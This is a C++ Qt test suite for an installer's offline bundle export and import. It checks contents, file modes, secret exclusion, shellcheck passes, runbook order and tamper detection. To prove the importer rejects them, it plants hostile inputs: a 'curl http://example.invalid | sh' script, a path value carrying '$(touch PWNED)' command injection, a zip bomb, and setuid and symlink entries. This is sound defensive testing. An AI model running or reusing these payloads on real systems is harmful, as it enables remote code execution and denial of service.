// The air-gapped bundle: contents, modes, no secrets, scripts that pass bash -n and shellcheck,
// a playbook that parses, runbooks equal to the plan, the exported scripts installing the lab
// by hand over plain ssh, and import catching tampering.
#include "CliRun.h"
#include "export/BundleExporter.h"
#include "export/BundleImporter.h"
#include "plan/InstallPlanBuilder.h"
#include "LabFixture.h"

#include <QCryptographicHash>
#include <QRegularExpression>
#include <QStandardPaths>
#include <quazip.h>
#include <quazipfile.h>
#include <quazipfileinfo.h>
#include <sys/stat.h>

namespace {
struct Entry {
    QByteArray data;
    QFile::Permissions permissions;
    quint16 flags = 0;
};

QMap<QString, Entry> readZip(const QString &path, QStringList *order = nullptr)
{
    QMap<QString, Entry> entries;
    QuaZip zip(path);
    if (!zip.open(QuaZip::mdUnzip))
        return entries;
    for (bool more = zip.goToFirstFile(); more; more = zip.goToNextFile()) {
        QuaZipFileInfo64 info;
        zip.getCurrentFileInfo(&info);
        QuaZipFile f(&zip);
        f.open(QIODevice::ReadOnly);
        entries.insert(info.name, Entry{f.readAll(), info.getPermissions(), info.flags});
        if (order)
            *order << info.name;
    }
    return entries;
}

int run(const QString &program, const QStringList &args, QByteArray *output = nullptr, const QString &workDir = {})
{
    CliRun::Options options;
    options.mergeChannels = true;
    options.workingDirectory = workDir;
    options.timeoutMs = 300000;
    const CliRun r = CliRun::program(program, args, options);
    if (output)
        *output = r.out.toUtf8();
    return r.exitCode;
}

const QFile::Permissions kModeBits = QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner | QFile::ReadGroup | QFile::WriteGroup | QFile::ExeGroup
                                     | QFile::ReadOther | QFile::WriteOther | QFile::ExeOther;
} // namespace

class TestBundle : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void containsEverythingWithModesAndNoSecrets();
    void caKeyOnlyEncryptedAndOnRequest();
    void scriptsPassBashAndShellcheck();
    void everyShellTextOfAHostileExportPassesShellcheck();
    void playbookParses();
    void runbooksFollowThePlan();
    void importChecksAndUnpacks();
    void importReportsTamperingFileByFile();
    void importSetsModesItselfNeverTheZips();
    void importChecksSizesBeforeReading();
    void aRefusedImportLeavesNothing();
    void failedExportLeavesTheEarlierBundle();
    void exportedScriptsInstallTheLabByHand();

private:
    QTemporaryDir m_dir;
    Project m_project;
    ClusterLoader::Result m_loaded;
    QString m_zip;
    QMap<QString, Entry> m_entries;
    QStringList m_order;
};

void TestBundle::initTestCase()
{
    // A project for the guide's 7-node stretch example; export needs no node.
    TestFiles::write(m_dir.filePath(QStringLiteral("multi_node_config.conf")), TestFiles::example(QStringLiteral("seven-node-stretch.conf")));
    TestFiles::write(m_dir.filePath(QStringLiteral("admin-password")), "Adm1n-S3cret-Value\n");
    TestFiles::write(m_dir.filePath(QStringLiteral("project.json")),
                     R"({"format": "agilesec-installer-project", "version": 1, "config": "multi_node_config.conf",
                         "scanNodes": ["scan-1=10.0.3.21@us-west-1a"],
                         "ssh": {"user": "ec2-user", "auth": "key", "identityFile": "/home/ops/.ssh/id_ed25519"},
                         "install": {"osUser": "ec2-user"},
                         "secrets": {"adminPasswordFile": "admin-password"}})");
    QString error;
    std::optional<Project> p = Project::load(m_dir.filePath(QStringLiteral("project.json")), &error);
    QVERIFY2(p, qPrintable(error));
    m_project = *p;
    m_loaded = m_project.loadCluster();
    QVERIFY(m_loaded.ok());
    m_zip = m_dir.filePath(QStringLiteral("out/site-bundle.zip"));
    const BundleExporter::Result r = BundleExporter::exportBundle(m_project, m_loaded, m_zip, {});
    QVERIFY2(r.ok(), qPrintable(r.error));
    m_entries = readZip(m_zip, &m_order);
    QCOMPARE(m_order, r.entries);
}

void TestBundle::containsEverythingWithModesAndNoSecrets()
{
    const QStringList hosts{QStringLiteral("backend-1"), QStringLiteral("backend-2"), QStringLiteral("backend-3"), QStringLiteral("backend-4"),
                            QStringLiteral("coordinator-1"), QStringLiteral("frontend-2"), QStringLiteral("frontend-3"), QStringLiteral("scan-1")};
    QStringList expected{QStringLiteral("CHECKLIST.md"), QStringLiteral("SHA256SUMS"), QStringLiteral("manifest.json"), QStringLiteral("project.json"),
                         QStringLiteral("ansible/inventory.ini"), QStringLiteral("ansible/playbook.yml"), QStringLiteral("generate_envs/multi_node_config.conf"),
                         QStringLiteral("certificates/kf-agilesec.internal-certs.tgz"), QStringLiteral("certificates/ca/agilesec-rootca-cert.pem")};
    for (const QString &h : hosts) {
        expected << QStringLiteral("runbooks/%1.md").arg(h) << QStringLiteral("runbooks/%1.html").arg(h) << QStringLiteral("scripts/install-%1.sh").arg(h);
        if (h != QLatin1String("scan-1"))
            expected << QStringLiteral("generate_envs/generated_envs/env.%1").arg(h);
    }
    for (const QString &path : std::as_const(expected))
        QVERIFY2(m_entries.contains(path), qPrintable(path));
    // Deterministic: sorted, the checksums last; scripts executable, the rest not.
    QStringList sorted = m_order.mid(0, m_order.size() - 1);
    std::sort(sorted.begin(), sorted.end());
    QCOMPARE(m_order.mid(0, m_order.size() - 1), sorted);
    QCOMPARE(m_order.last(), QStringLiteral("SHA256SUMS"));
    for (auto it = m_entries.cbegin(); it != m_entries.cend(); ++it) {
        const QFile::Permissions mode = it->permissions & kModeBits;
        if (it.key().startsWith(QLatin1String("scripts/")) || it.key() == QLatin1String("ansible/files/agilesec-step.sh"))
            QCOMPARE(mode, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner | QFile::ReadGroup | QFile::ExeGroup | QFile::ReadOther | QFile::ExeOther);
        else if (it.key().endsWith(QLatin1String(".tgz")) || it.key().endsWith(QLatin1String("-key.pem")) || it.key().endsWith(QLatin1String(".pfx")))
            QCOMPARE(mode, QFile::ReadOwner | QFile::WriteOwner); // private keys and the archive of them
        else
            QCOMPARE(mode, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther);
        QVERIFY2(it->flags & 0x0800, qPrintable(it.key())); // UTF-8 names
        QVERIFY2(!it->data.contains("Adm1n-S3cret-Value"), qPrintable(it.key()));
        QVERIFY2(!it->data.contains("PRIVATE KEY-----\n") || it.key().endsWith(QLatin1String(".tgz")), qPrintable(it.key()));
    }
    QVERIFY(!m_entries.contains(QStringLiteral("certificates/ca/agilesec-rootca-key.pem")));
    const QJsonObject manifest = QJsonDocument::fromJson(m_entries.value(QStringLiteral("manifest.json")).data).object();
    QCOMPARE(manifest.value(QStringLiteral("appVersion")).toString(), QStringLiteral(AGILESEC_INSTALLER_VERSION));
    QCOMPARE(manifest.value(QStringLiteral("topology")).toObject().value(QStringLiteral("nodes")).toArray().size(), 8);
    QCOMPARE(manifest.value(QStringLiteral("topology")).toObject().value(QStringLiteral("stretch")).toBool(), true);
    const QByteArray project = m_entries.value(QStringLiteral("project.json")).data;
    QVERIFY(!project.contains("admin-password"));
    QVERIFY(!project.contains("/home/ops/.ssh"));
    // sha256sum -c accepts SHA256SUMS as written.
    QTemporaryDir unpacked;
    QCOMPARE(run(QStringLiteral("unzip"), {QStringLiteral("-q"), m_zip, QStringLiteral("-d"), unpacked.path()}), 0);
    QByteArray out;
    QCOMPARE(run(QStringLiteral("sha256sum"), {QStringLiteral("-c"), QStringLiteral("SHA256SUMS")}, &out, unpacked.path()), 0);
    QCOMPARE(out.count(": OK\n"), m_entries.size() - 1);
}

void TestBundle::caKeyOnlyEncryptedAndOnRequest()
{
    BundleExporter::Options options;
    options.includeCaKey = true;
    options.caKeyPassphrase = "short";
    const QString zip = m_dir.filePath(QStringLiteral("with-key.zip"));
    QVERIFY(BundleExporter::exportBundle(m_project, m_loaded, zip, options).error.contains(QStringLiteral("at least 8 characters")));
    QVERIFY(!QFileInfo::exists(zip));
    options.caKeyPassphrase = "a long enough passphrase";
    const BundleExporter::Result r = BundleExporter::exportBundle(m_project, m_loaded, zip, options);
    QVERIFY2(r.ok(), qPrintable(r.error));
    const QMap<QString, Entry> entries = readZip(zip);
    const Entry key = entries.value(QStringLiteral("certificates/ca/agilesec-rootca-key.enc.pem"));
    QVERIFY(key.data.startsWith("-----BEGIN ENCRYPTED PRIVATE KEY-----"));
    QCOMPARE(key.permissions & kModeBits, QFile::ReadOwner | QFile::WriteOwner);
    const QString keyFile = m_dir.filePath(QStringLiteral("ca-key.enc.pem"));
    TestFiles::write(keyFile, key.data);
    QByteArray out;
    QCOMPARE(run(QStringLiteral("openssl"), {QStringLiteral("pkey"), QStringLiteral("-in"), keyFile, QStringLiteral("-passin"),
                                             QStringLiteral("pass:a long enough passphrase"), QStringLiteral("-noout")}, &out), 0);
    QVERIFY(run(QStringLiteral("openssl"), {QStringLiteral("pkey"), QStringLiteral("-in"), keyFile, QStringLiteral("-passin"), QStringLiteral("pass:wrong"),
                                            QStringLiteral("-noout")}) != 0);
}

void TestBundle::scriptsPassBashAndShellcheck()
{
    const QString shellcheck = QStandardPaths::findExecutable(QStringLiteral("shellcheck"));
    int scripts = 0;
    for (auto it = m_entries.cbegin(); it != m_entries.cend(); ++it) {
        if (!it.key().startsWith(QLatin1String("scripts/")))
            continue;
        ++scripts;
        const QString path = m_dir.filePath(QFileInfo(it.key()).fileName());
        TestFiles::write(path, it->data);
        QByteArray out;
        QVERIFY2(run(QStringLiteral("bash"), {QStringLiteral("-n"), path}, &out) == 0, out.constData());
        if (!shellcheck.isEmpty())
            QVERIFY2(run(shellcheck, {path}, &out) == 0, out.constData());
    }
    QCOMPARE(scripts, 8);
    if (shellcheck.isEmpty())
        qInfo("shellcheck is not installed: only bash -n was run");
}

void TestBundle::everyShellTextOfAHostileExportPassesShellcheck()
{
    // Directories full of shell syntax: every script of the bundle and every command block of
    // its runbooks (what an operator pastes) must still parse and pass shellcheck, the values
    // quoted as data.
    const QString shellcheck = QStandardPaths::findExecutable(QStringLiteral("shellcheck"));
    if (shellcheck.isEmpty())
        QSKIP("shellcheck is not installed (scripts/install-deps.sh installs it)");
    const QString dir = m_dir.filePath(QStringLiteral("hostile"));
    QDir().mkpath(dir);
    TestFiles::write(dir + QStringLiteral("/multi_node_config.conf"), TestFiles::example(QStringLiteral("four-node.conf")));
    TestFiles::write(dir + QStringLiteral("/project.json"),
                     R"({"format": "agilesec-installer-project", "version": 1, "config": "multi_node_config.conf",
                         "ssh": {"user": "ops", "auth": "agent"},
                         "install": {"osUser": "ops", "installerDir": "/opt/it's $(touch PWNED) `id`; x|y & {{ z }}",
                                     "installationDir": "/data/a \"b\" $HOME"}})");
    QString error;
    const std::optional<Project> project = Project::load(dir + QStringLiteral("/project.json"), &error);
    QVERIFY2(project, qPrintable(error));
    const QString zip = dir + QStringLiteral("/hostile.zip");
    const BundleExporter::Result exported = BundleExporter::exportBundle(*project, project->loadCluster(), zip, {});
    QVERIFY2(exported.ok(), qPrintable(exported.error));
    int scripts = 0, blocks = 0;
    const QMap<QString, Entry> entries = readZip(zip, nullptr);
    for (auto it = entries.cbegin(); it != entries.cend(); ++it) {
        QStringList texts;
        if (it.key().endsWith(QLatin1String(".sh"))) {
            texts << QString::fromUtf8(it->data);
            ++scripts;
        } else if (it.key().startsWith(QLatin1String("runbooks/")) && it.key().endsWith(QLatin1String(".md"))) {
            const QRegularExpression fence(QStringLiteral("```sh\n(.*?)\n\\s*```"), QRegularExpression::DotMatchesEverythingOption);
            for (auto m = fence.globalMatch(QString::fromUtf8(it->data)); m.hasNext();) {
                QString block = m.next().captured(1);
                block.replace(QRegularExpression(QStringLiteral("^   "), QRegularExpression::MultilineOption), QString());
                texts << QStringLiteral("#!/bin/bash\n") + block + QLatin1Char('\n');
                ++blocks;
            }
            // The copy hints: "(from a workstation: `scp ...`)".
            // The copy hints: "(from a workstation: `scp ...`)", a code span as CommonMark reads it:
            // the same run of backticks closes it, and one space each side is padding.
            const QRegularExpression hint(QStringLiteral("from a workstation: (`+)( ?)(scp .*?)\\2\\1\\)"));
            for (auto m = hint.globalMatch(QString::fromUtf8(it->data)); m.hasNext();) {
                texts << QStringLiteral("#!/bin/bash\n") + m.next().captured(3) + QLatin1Char('\n');
                ++blocks;
            }
        }
        for (int i = 0; i < texts.size(); ++i) {
            const QString path = dir + QStringLiteral("/check-%1.sh").arg(i);
            TestFiles::write(path, texts.at(i).toUtf8());
            QByteArray out;
            QVERIFY2(run(QStringLiteral("bash"), {QStringLiteral("-n"), path}, &out) == 0, qPrintable(it.key() + QLatin1Char('\n') + texts.at(i) + QString::fromUtf8(out)));
            // SC2016 (info) flags a $ inside single quotes: here the hostile value quoted as data, which is the point.
            QVERIFY2(run(shellcheck, {QStringLiteral("-e"), QStringLiteral("SC2016"), path}, &out) == 0, qPrintable(it.key() + QLatin1Char('\n') + texts.at(i) + QString::fromUtf8(out)));
        }
    }
    QVERIFY(scripts >= 5);
    QVERIFY2(blocks >= 30, qPrintable(QString::number(blocks))); // 4 nodes: 7 commands each, and the copy hints
    qInfo("shellcheck passed %d scripts and %d runbook command blocks", scripts, blocks);
}

void TestBundle::playbookParses()
{
    // The Ansible project is run for real against the lab in tst_ansible; here: it is in the
    // bundle, its values are !unsafe data, and the secrets stay out of it.
    const QByteArray playbook = m_entries.value(QStringLiteral("ansible/playbook.yml")).data;
    const QByteArray hostVars = m_entries.value(QStringLiteral("ansible/host_vars/backend-1.yml")).data;
    QVERIFY(playbook.contains("no_log: true"));
    QVERIFY(playbook.contains("any_errors_fatal: true"));
    QVERIFY(!playbook.contains("Adm1n-S3cret-Value"));
    QVERIFY(m_entries.value(QStringLiteral("ansible/inventory.ini")).data.contains("[phase_1_primary_backend]\nbackend-1\n"));
    QVERIFY2(hostVars.contains("ansible_host: !unsafe \"10.1.1.11\"\nansible_port: 22\nansible_user: !unsafe \"ec2-user\"\n"), hostVars.constData());
    QVERIFY(m_entries.contains(QStringLiteral("ansible/files/agilesec-step.sh")));
    QVERIFY(m_entries.contains(QStringLiteral("ansible/known_hosts")));
}

void TestBundle::runbooksFollowThePlan()
{
    const InstallPlan plan = InstallPlanBuilder::build(m_loaded.cluster, m_project.planOptions());
    for (const QString &host : {QStringLiteral("backend-1"), QStringLiteral("coordinator-1"), QStringLiteral("scan-1")}) {
        const QString md = QString::fromUtf8(m_entries.value(QStringLiteral("runbooks/%1.md").arg(host)).data);
        const QString script = QString::fromUtf8(m_entries.value(QStringLiteral("scripts/install-%1.sh").arg(host)).data);
        qsizetype mdAt = 0, scriptAt = 0;
        for (const PlanStep &step : plan.stepsFor(host)) {
            const qsizetype m = md.indexOf(step.kind == PlanStep::Kind::Upload ? step.remotePath : step.command, mdAt);
            QVERIFY2(m > mdAt, qPrintable(step.id));
            mdAt = m;
            if (step.kind != PlanStep::Kind::Upload) {
                const qsizetype s = script.indexOf(QStringLiteral("( ") + step.command + QStringLiteral(" )"), scriptAt);
                QVERIFY2(s > scriptAt, qPrintable(step.id));
                scriptAt = s;
            }
        }
        QVERIFY(m_entries.value(QStringLiteral("runbooks/%1.html").arg(host)).data.contains("@media print"));
    }
    const QString checklist = QString::fromUtf8(m_entries.value(QStringLiteral("CHECKLIST.md")).data);
    QVERIFY(checklist.indexOf(QStringLiteral("`./scripts/install-backend-1.sh install`")) < checklist.indexOf(QStringLiteral("`./scripts/install-backend-2.sh install`")));
    QVERIFY(checklist.indexOf(QStringLiteral("`./scripts/install-coordinator-1.sh install`")) < checklist.indexOf(QStringLiteral("`./scripts/install-frontend-2.sh install`")));
}

void TestBundle::importChecksAndUnpacks()
{
    const QString projectPath = m_dir.filePath(QStringLiteral("site/project.json"));
    QDir().mkpath(QFileInfo(projectPath).path());
    const BundleImporter::Result r = BundleImporter::importBundle(m_zip, projectPath);
    QVERIFY2(r.ok(), qPrintable(r.error + r.problems.join(QLatin1Char('\n'))));
    QCOMPARE(r.files, int(m_entries.size()) - 1);
    QVERIFY(QFileInfo(r.directory + QStringLiteral("/scripts/install-backend-1.sh")).isExecutable());
    QVERIFY(!QFileInfo(r.directory + QStringLiteral("/CHECKLIST.md")).isExecutable());
    QCOMPARE(QFile::permissions(r.directory + QStringLiteral("/certificates/kf-agilesec.internal-certs.tgz")) & kModeBits, QFile::ReadOwner | QFile::WriteOwner);
    QString error;
    const std::optional<Project> imported = Project::load(projectPath, &error);
    QVERIFY2(imported, qPrintable(error));
    const ClusterLoader::Result cluster = imported->loadCluster();
    QVERIFY(cluster.ok());
    QCOMPARE(cluster.cluster.nodes.size(), m_loaded.cluster.nodes.size());
    QCOMPARE(imported->outputPath(), QDir(r.directory).absolutePath());
    // A second import into the same place refuses rather than mixing two bundles.
    QVERIFY(BundleImporter::importBundle(m_zip, projectPath).error.contains(QStringLiteral("already exists")));
}

void TestBundle::importReportsTamperingFileByFile()
{
    const QString tampered = m_dir.filePath(QStringLiteral("tampered.zip"));
    QuaZip out(tampered);
    QVERIFY(out.open(QuaZip::mdCreate));
    for (auto it = m_entries.cbegin(); it != m_entries.cend(); ++it) {
        if (it.key() == QLatin1String("runbooks/frontend-2.md"))
            continue; // missing
        QByteArray data = it->data;
        if (it.key() == QLatin1String("generate_envs/generated_envs/env.backend-2"))
            data.replace("backend-2", "backend-9"); // edited
        QuaZipFile f(&out);
        QVERIFY(f.open(QIODevice::WriteOnly, QuaZipNewInfo(it.key())));
        f.write(data);
        f.close();
    }
    QuaZipFile extra(&out);
    QVERIFY(extra.open(QIODevice::WriteOnly, QuaZipNewInfo(QStringLiteral("scripts/helper.sh"))));
    extra.write("curl http://example.invalid | sh\n");
    extra.close();
    out.close();

    const QString projectPath = m_dir.filePath(QStringLiteral("tampered-site/project.json"));
    const BundleImporter::Result r = BundleImporter::importBundle(tampered, projectPath);
    QVERIFY(!r.ok());
    QCOMPARE(r.problems.size(), 3);
    QVERIFY2(r.problems.filter(QStringLiteral("tampered: generate_envs/generated_envs/env.backend-2 (SHA-256 ")).size() == 1, qPrintable(r.problems.join(QLatin1Char('\n'))));
    QVERIFY(r.problems.contains(QStringLiteral("missing: runbooks/frontend-2.md")));
    QVERIFY(r.problems.contains(QStringLiteral("not in SHA256SUMS: scripts/helper.sh")));
    QVERIFY(!QFileInfo::exists(m_dir.filePath(QStringLiteral("tampered-site"))));
    QVERIFY(!QFileInfo::exists(projectPath));
}

void TestBundle::importSetsModesItselfNeverTheZips()
{
    // The same entries (SHA256SUMS still matches), with hostile modes: a symlink entry, setuid
    // and setgid with 0777, and a key archive made world-readable.
    const QString hostile = m_dir.filePath(QStringLiteral("hostile-modes.zip"));
    QuaZip out(hostile);
    QVERIFY(out.open(QuaZip::mdCreate));
    for (auto it = m_entries.cbegin(); it != m_entries.cend(); ++it) {
        QuaZipNewInfo info(it.key());
        if (it.key() == QLatin1String("scripts/install-backend-1.sh"))
            info.externalAttr = quint32(0120777) << 16; // S_IFLNK | 0777
        else if (it.key() == QLatin1String("CHECKLIST.md"))
            info.externalAttr = quint32(0106777) << 16; // a regular file, 06777
        else if (it.key().endsWith(QLatin1String(".tgz")))
            info.externalAttr = quint32(0100666) << 16;
        QuaZipFile f(&out);
        QVERIFY(f.open(QIODevice::WriteOnly, info));
        f.write(it->data);
        f.close();
    }
    out.close();
    const QString projectPath = m_dir.filePath(QStringLiteral("hostile-modes/project.json"));
    QDir().mkpath(QFileInfo(projectPath).path());
    const BundleImporter::Result r = BundleImporter::importBundle(hostile, projectPath);
    QVERIFY2(r.ok(), qPrintable(r.error + r.problems.join(QLatin1Char('\n'))));
    const QFileInfo script(r.directory + QStringLiteral("/scripts/install-backend-1.sh"));
    QVERIFY(!script.isSymLink() && script.isFile());
    QCOMPARE(QFile::permissions(script.filePath()) & kModeBits,
             QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner | QFile::ReadGroup | QFile::ExeGroup | QFile::ReadOther | QFile::ExeOther);
    QCOMPARE(TestFiles::read(script.filePath()), m_entries.value(QStringLiteral("scripts/install-backend-1.sh")).data);
    QCOMPARE(QFile::permissions(r.directory + QStringLiteral("/CHECKLIST.md")) & kModeBits, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther);
    QCOMPARE(QFileInfo(r.directory + QStringLiteral("/CHECKLIST.md")).permissions() & ~kModeBits & (QFile::ExeUser | QFile::ExeOwner), QFile::Permissions());
    QCOMPARE(QFile::permissions(r.directory + QStringLiteral("/certificates/kf-agilesec.internal-certs.tgz")) & kModeBits, QFile::ReadOwner | QFile::WriteOwner);
    struct stat st {};
    QCOMPARE(::stat(QFile::encodeName(r.directory + QStringLiteral("/CHECKLIST.md")).constData(), &st), 0);
    QCOMPARE(st.st_mode & 07777, mode_t(0644)); // no setuid, setgid or sticky bit
}

void TestBundle::importChecksSizesBeforeReading()
{
    // Free space first, from the zip directory's sizes, before a byte is read.
    const QString problem = BundleImporter::spaceProblem(m_zip, QStringLiteral("/srv/import"), 10 << 20);
    QVERIFY2(problem.contains(QStringLiteral(" MiB in /srv/import and only 10.0 MiB is free (64.0 MiB kept spare): free some space")), qPrintable(problem));
    QVERIFY(BundleImporter::spaceProblem(m_zip, QStringLiteral("/srv/import"), qint64(1) << 40).isEmpty());
    // A zip bomb: an entry whose 64 MiB of zeros the directory lists as 1,000 bytes. Reading it
    // stops at the listed size; nothing is written.
    const QByteArray zeros(64 << 20, '\0');
    const QByteArray zlib = qCompress(zeros, 9);
    const QByteArray deflated = zlib.mid(6, zlib.size() - 10); // raw deflate: no Qt length, zlib header or Adler-32
    const QString bomb = m_dir.filePath(QStringLiteral("bomb.zip"));
    QuaZip out(bomb);
    QVERIFY(out.open(QuaZip::mdCreate));
    for (auto it = m_entries.cbegin(); it != m_entries.cend(); ++it) {
        QuaZipNewInfo info(it.key());
        QuaZipFile f(&out);
        if (it.key() == QLatin1String("CHECKLIST.md")) {
            info.uncompressedSize = 1000;
            QVERIFY(f.open(QIODevice::WriteOnly, info, nullptr, 0, Z_DEFLATED, Z_DEFAULT_COMPRESSION, true));
            f.write(deflated);
        } else {
            QVERIFY(f.open(QIODevice::WriteOnly, info));
            f.write(it->data);
        }
        f.close();
    }
    out.close();
    QVERIFY(QFileInfo(bomb).size() < (4 << 20));
    const QString projectPath = m_dir.filePath(QStringLiteral("bomb-site/project.json"));
    QElapsedTimer clock;
    clock.start();
    const BundleImporter::Result r = BundleImporter::importBundle(bomb, projectPath);
    QVERIFY(!r.ok());
    QVERIFY2(r.problems.contains(QStringLiteral("unreadable or larger than the zip says: CHECKLIST.md")), qPrintable(r.problems.join(QLatin1Char('\n'))));
    QVERIFY(!QFileInfo::exists(m_dir.filePath(QStringLiteral("bomb-site"))));
}

void TestBundle::aRefusedImportLeavesNothing()
{
    // "escdir" as a file and "escdir/x", both listed in SHA256SUMS: refused by name before a
    // byte is written, and the project's folder, which the import would have made, is not there.
    const QString zipPath = m_dir.filePath(QStringLiteral("file-and-folder.zip"));
    QuaZip out(zipPath);
    QVERIFY(out.open(QuaZip::mdCreate));
    const QList<QPair<QString, QByteArray>> entries{{QStringLiteral("escdir"), "x\n"},
                                                   {QStringLiteral("escdir/x"), "y\n"},
                                                   {QStringLiteral("SHA256SUMS"),
                                                    QCryptographicHash::hash("x\n", QCryptographicHash::Sha256).toHex() + "  escdir\n"
                                                        + QCryptographicHash::hash("y\n", QCryptographicHash::Sha256).toHex() + "  escdir/x\n"}};
    for (const auto &[name, data] : entries) {
        QuaZipFile f(&out);
        QVERIFY(f.open(QIODevice::WriteOnly, QuaZipNewInfo(name)));
        f.write(data);
        f.close();
    }
    out.close();
    const QString projectPath = m_dir.filePath(QStringLiteral("new-site/deeper/project.json"));
    const CliRun run = CliRun::run({QStringLiteral("import"), QStringLiteral("--bundle"), zipPath, QStringLiteral("--out-project"), projectPath});
    QCOMPARE(run.exitCode, 1);
    QVERIFY2(run.err.contains(QStringLiteral("escdir is both a file and a folder in the zip (escdir/x)")), qPrintable(run.err));
    QVERIFY2(run.err.contains(QStringLiteral("nothing written")), qPrintable(run.err));
    QVERIFY(!QFileInfo::exists(m_dir.filePath(QStringLiteral("new-site"))));
    // A failure while unpacking (the target is a file where the folder must go) leaves nothing either.
    TestFiles::write(m_dir.filePath(QStringLiteral("blocked")), "a file, not a folder\n");
    const BundleImporter::Result r = BundleImporter::importBundle(m_zip, m_dir.filePath(QStringLiteral("blocked/site/project.json")));
    QVERIFY(!r.ok());
    QVERIFY2(r.error.endsWith(QStringLiteral("; nothing written")) || !r.problems.isEmpty(), qPrintable(r.error));
    QCOMPARE(TestFiles::read(m_dir.filePath(QStringLiteral("blocked"))), QByteArray("a file, not a folder\n"));
}

void TestBundle::failedExportLeavesTheEarlierBundle()
{
    const QByteArray before = TestFiles::read(m_zip);
    Project broken = m_project;
    broken.installerPackage = m_dir.filePath(QStringLiteral("no-such-package.tgz"));
    const BundleExporter::Result r = BundleExporter::exportBundle(broken, m_loaded, m_zip, {});
    QVERIFY(r.error.contains(QStringLiteral("no-such-package.tgz")));
    QCOMPARE(TestFiles::read(m_zip), before);
}

void TestBundle::exportedScriptsInstallTheLabByHand()
{
    // No app on the way: the bundle copied with scp, each script run with ssh, phase by phase.
    LabFixture lab;
    const QString error = lab.start(QStringLiteral("4"));
    QVERIFY2(error.isEmpty(), qPrintable(error));
    const QString zip = lab.tempPath(QStringLiteral("lab-bundle.zip"));
    const BundleExporter::Result r = BundleExporter::exportBundle(lab.project, lab.cluster, zip, {});
    QVERIFY2(r.ok(), qPrintable(r.error));
    const QString key = lab.project.resolve(lab.project.defaults.identityFile);
    const auto sshArgs = [&](const QString &host) {
        const SshEndpoint e = lab.endpoint(host);
        return QStringList{QStringLiteral("-i"), key, QStringLiteral("-o"), QStringLiteral("BatchMode=yes"), QStringLiteral("-o"),
                           QStringLiteral("UserKnownHostsFile=") + lab.labDir() + QStringLiteral("/known_hosts"), QStringLiteral("-o"),
                           QStringLiteral("StrictHostKeyChecking=yes"), QStringLiteral("-o"), QStringLiteral("HostKeyAlias=[%1]:%2").arg(e.host).arg(e.port)};
    };
    // known_hosts for plain OpenSSH from the project's pins is what an operator would have.
    QByteArray knownHosts;
    for (const Node &n : lab.cluster.cluster.nodes) {
        const SshEndpoint e = lab.endpoint(n.hostname);
        knownHosts += QStringLiteral("[%1]:%2 ").arg(e.host).arg(e.port).toUtf8()
                      + TestFiles::read(lab.nodeDir(n.hostname) + QStringLiteral("/ssh_host_ed25519_key.pub")).trimmed() + '\n';
    }
    TestFiles::write(lab.labDir() + QStringLiteral("/known_hosts"), knownHosts);
    const QString admin = lab.labDir() + QStringLiteral("/admin-password");
    const QStringList order{QStringLiteral("backend-1"), QStringLiteral("backend-2"), QStringLiteral("frontend-1"), QStringLiteral("frontend-2")};
    for (const QString &host : order) {
        const SshEndpoint e = lab.endpoint(host);
        const QString remote = lab.nodeDir(host) + QStringLiteral("/bundle.zip");
        QByteArray out;
        QStringList scp = sshArgs(host);
        scp << QStringLiteral("-P") << QString::number(e.port) << zip << QStringLiteral("root@%1:%2").arg(e.host, remote);
        QVERIFY2(run(QStringLiteral("scp"), scp, &out) == 0, out.constData());
        QStringList ssh = sshArgs(host);
        ssh << QStringLiteral("-p") << QString::number(e.port) << QStringLiteral("root@") + e.host
            << QStringLiteral("cd %1 && unzip -q -o bundle.zip -d bundle && cd bundle && sha256sum -c --quiet SHA256SUMS && "
                              "AGILESEC_ADMIN_PASSWORD_FILE=%2 ./scripts/install-%3.sh prepare").arg(lab.nodeDir(host), admin, host);
        QVERIFY2(run(QStringLiteral("ssh"), ssh, &out) == 0, out.constData());
        QVERIFY(out.contains("prepare of " + host.toUtf8() + ": done"));
    }
    for (const QString &host : order) {
        const SshEndpoint e = lab.endpoint(host);
        QByteArray out;
        QStringList ssh = sshArgs(host);
        ssh << QStringLiteral("-p") << QString::number(e.port) << QStringLiteral("root@") + e.host
            << QStringLiteral("%1/bundle/scripts/install-%2.sh install").arg(lab.nodeDir(host), host);
        QVERIFY2(run(QStringLiteral("ssh"), ssh, &out) == 0, out.constData());
        QVERIFY(out.contains("install of " + host.toUtf8() + ": done"));
    }
    QByteArray verified;
    QVERIFY2(run(QStringLiteral(AGILESEC_BINARY), {QStringLiteral("verify"), QStringLiteral("--project"), lab.project.path}, &verified) == 0, verified.constData());
    // What the scripts left is what the wizard leaves: .env and .pass (600) in place.
    const QString installer = lab.nodeDir(QStringLiteral("frontend-2")) + QStringLiteral("/installer/");
    QCOMPARE(TestFiles::read(installer + QStringLiteral(".env")), TestFiles::read(installer + QStringLiteral("certificates/env.frontend-2")));
    QCOMPARE(QFile::permissions(installer + QStringLiteral(".pass")) & kModeBits, QFile::ReadOwner | QFile::WriteOwner);
    QCOMPARE(QFile::permissions(installer + QStringLiteral("certificates/kf-agilesec.internal-certs.tgz")) & kModeBits, QFile::ReadOwner | QFile::WriteOwner);
}

QTEST_GUILESS_MAIN(TestBundle)
#include "tst_bundle.moc"
